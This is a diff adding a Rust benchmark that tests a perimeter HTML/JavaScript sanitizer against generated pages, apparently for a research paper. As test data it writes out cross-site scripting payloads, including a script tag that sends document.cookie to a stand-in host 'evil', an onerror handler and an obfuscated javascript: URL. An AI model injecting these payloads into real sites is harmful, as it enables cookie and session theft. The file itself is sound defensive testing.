@@ -1,0 +1,96 @@
+//! E10 — perimeter JavaScript filtering (paper §3.5, client-side support).
+//!
+//! Throughput and efficacy of the perimeter sanitizer over a generated
+//! page corpus: clean pages, script injections, event-handler injections,
+//! and `javascript:` URLs (including whitespace obfuscation).
+
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+use w5_platform::sanitize_html;
+use w5_sim::Table;
+
+fn gen_page(rng: &mut StdRng, kind: usize, paragraphs: usize) -> (String, bool) {
+    let mut html = String::from("<html><body>");
+    let mut hostile = false;
+    for p in 0..paragraphs {
+        html.push_str(&format!("<p class=\"c{p}\">lorem ipsum {p} </p>"));
+        if p == paragraphs / 2 {
+            match kind {
+                1 => {
+                    html.push_str("<script>document.location='http://evil/'+document.cookie</script>");
+                    hostile = true;
+                }
+                2 => {
+                    html.push_str(&format!(
+                        "<img src=\"p{}.img\" onerror=\"steal()\">",
+                        rng.gen_range(0..100)
+                    ));
+                    hostile = true;
+                }
+                3 => {
+                    html.push_str("<a href=\"java\tscript:steal()\">win a prize</a>");
+                    hostile = true;
+                }
+                _ => {
+                    html.push_str(&format!("<a href=\"/page{}\">next</a>", rng.gen_range(0..100)));
+                }
+            }
+        }
+    }
+    html.push_str("</body></html>");
+    (html, hostile)
+}
+
+fn hostile_survives(clean: &str) -> bool {
+    let lower: String = clean
+        .chars()
+        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
+        .collect::<String>()
+        .to_ascii_lowercase();
+    lower.contains("<script") || lower.contains("onerror=") || lower.contains("javascript:")
+}
+
+fn main() {
+    w5_bench::banner("E10", "perimeter JS filter: efficacy and throughput", "§3.5");
+
+    let mut rng = StdRng::seed_from_u64(2007);
+    let kinds = ["clean", "script tag", "event handler", "js: url"];
+    let mut table = Table::new(["page kind", "pages", "blocked payloads", "missed", "MB/s"]);
+
+    for (kind, name) in kinds.iter().enumerate() {
+        let corpus: Vec<(String, bool)> =
+            (0..200).map(|_| gen_page(&mut rng, kind, 40)).collect();
+        let total_bytes: usize = corpus.iter().map(|(h, _)| h.len()).sum();
+
+        let t = std::time::Instant::now();
+        let mut removed = 0usize;
+        let mut missed = 0usize;
+        for (page, hostile) in &corpus {
+            let (clean, stats) = sanitize_html(page);
+            removed += stats.total();
+            if *hostile && hostile_survives(&clean) {
+                missed += 1;
+            }
+        }
+        let elapsed = t.elapsed();
+        table.row([
+            name.to_string(),
+            corpus.len().to_string(),
+            removed.to_string(),
+            missed.to_string(),
+            format!("{:.1}", total_bytes as f64 / 1e6 / elapsed.as_secs_f64()),
+        ]);
+    }
+    println!("{table}");
+
+    // False-positive check: clean page content is preserved.
+    let (clean_page, _) = gen_page(&mut rng, 0, 40);
+    let (out, stats) = sanitize_html(&clean_page);
+    println!(
+        "clean-page fidelity: {} removals, {:.1}% of bytes preserved",
+        stats.total(),
+        100.0 * out.len() as f64 / clean_page.len() as f64
+    );
+    println!("shape check: 0 missed hostile payloads, 0 removals on clean pages, and");
+    println!("             filtering throughput far above the HTTP front end's needs.");
+}
